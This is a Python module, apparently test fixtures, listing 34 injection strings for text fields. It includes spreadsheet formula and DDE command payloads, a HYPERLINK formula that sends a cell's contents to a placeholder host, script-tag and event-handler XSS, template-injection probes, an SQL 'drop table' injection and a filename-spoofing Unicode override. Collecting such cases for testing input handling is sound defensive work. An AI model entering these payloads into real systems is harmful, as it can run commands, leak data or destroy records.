"""What somebody may write where a name, a label or a reason is asked for, so that a program runs it: 34 cases."""

from __future__ import annotations

INJECTIONS = {
    # A spreadsheet runs these.
    "formula": "=1+1",
    "formula after plus": "+1+1",
    "formula after minus": "-1+1",
    "formula after at": "@SUM(1;1)",
    "formula after a tab": "\t=1+1",
    "formula after a line": "\r\n=1+1",
    "formula after a space": " =1+1",
    "formula in wide signs": "＝１＋１",
    "a command": "=cmd|' /C calc'!A0",
    "a command after plus": "+cmd|' /C calc'!A0",
    "a link that sends": '=HYPERLINK("http://x.example?"&A1;"Se her")',
    "a request": '=WEBSERVICE("http://x.example")',
    "a cell of its own": '";=1+1;"',
    "a row of its own": 'navn"\r\n=1+1;"',
    # A page runs or draws these.
    "a script": "<script>alert(1)</script>",
    "a picture that runs": "<img src=x onerror=alert(1)>",
    "a drawing that runs": "<svg/onload=alert(1)>",
    "an end and a script": '"></td><script>alert(1)</script>',
    "an entity": "&lt;b&gt;fed&lt;/b&gt;",
    "a link": "[Ring her](http://x.example)",
    "a link that runs": "[Ring her](javascript:alert(1))",
    "a picture from elsewhere": "![x](http://x.example/x.png)",
    "a bare address": "Se http://x.example og www.x.example",
    "bold and crossed out": "**fed** _skrå_ ~~slettet~~",
    "code": "`kode`",
    "a heading": "# Overskrift",
    "a colour": ":red[Ring ikke]",
    "an icon": ":material/lock: :smile:",
    "a formula in print": "$x^2$ $$y$$",
    # What makes a document, a log or a sentence runs these.
    "a document's code": '#eval("1+1") #link("http://x.example")[x] *fed*',
    "a template's code": "{{7*7}} {0.__class__} {navn}",
    "a question": "'; drop table submission; --",
    "a terminal's colour": "\x1b[31mrød\x1b[0m",
    "turned text": "navn\u202egnp.exe",
}
